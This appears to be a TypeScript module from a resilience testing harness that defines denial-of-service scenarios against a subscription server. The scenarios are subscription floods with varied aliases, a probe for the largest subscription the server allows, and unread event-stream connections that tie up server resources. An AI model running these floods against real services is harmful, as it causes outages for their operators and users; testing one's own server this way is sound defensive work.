import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, type Attacker, repeat } from './clients/attack.ts';
import { httpRequest, openUnread } from './clients/raw-connection.ts';
import { type AttackingSocket, openAttackingSocket } from './clients/web-socket.ts';
import { subscriptionTo } from './documents.ts';

type Selection = readonly [lists: number, length: number];

/** Selections of a subscription, the largest first. The last one has no list and is always allowed. */
const selections: readonly Selection[] = [
  [48, 500],
  [24, 500],
  [12, 500],
  [6, 500],
  [3, 500],
  [1, 500],
  [1, 250],
  [1, 100],
  [1, 50],
  [1, 20],
  [1, 5],
  [0, 0],
];

/** A subscription that the server has not refused after this time is allowed. */
const refusalMs = 300;

/** Subscribes on a new socket with smaller and smaller selections, until the server allows one. */
async function largestAllowed(attacker: Attacker): Promise<Selection> {
  const socket = await openAttackingSocket(attacker);
  for (const selection of selections) {
    const refused = socket?.run(subscriptionTo(...selection, 'k'), 'an event').then(() => true);
    if ((await Promise.race([refused, delay(refusalMs)])) !== true) {
      attacker.count(`allowed: ${selection.join(' lists of ')}`);
      return selection;
    }
  }
  throw new Error('The server allows no subscription');
}

/** Keeps this number of subscriptions running. Each has other aliases, so that the server cannot share their results. */
function subscribe(socket: AttackingSocket, count: number, selection: Selection): Promise<void> {
  return repeat(count, async (index) => {
    if (socket.isOpen) await socket.run(subscriptionTo(...selection, `s${index}k`), 'an event');
    return false;
  });
}

/** Attacks with subscriptions whose events have large answers. Other clients cause the events. */
export const subscriptionFloods = {
  '16 subscriptions to 48 lists': async (attacker) => {
    const socket = await openAttackingSocket(attacker);
    if (socket !== undefined) await subscribe(socket, 16 * attacker.size, [48, 500]);
  },
  'as many of the largest subscriptions as allowed': async (attacker) => {
    const selection = await largestAllowed(attacker);
    await repeat(attacker.size, async () => {
      const socket = await openAttackingSocket(attacker);
      if (socket !== undefined) await Promise.race([socket.closed, subscribe(socket, 100, selection)]);
      return false;
    });
  },
  'unread event streams': async (attacker) => {
    const selection = await largestAllowed(attacker);
    await repeat(20 * attacker.size, async (index) => {
      const { connection, closed } = openUnread(attacker);
      const document = subscriptionTo(...selection, `s${index}k`);
      connection.write(httpRequest(attacker, document, 'text/event-stream'));
      attacker.count('sent');
      await closed;
      return false;
    });
  },
} satisfies Record<string, Attack>;
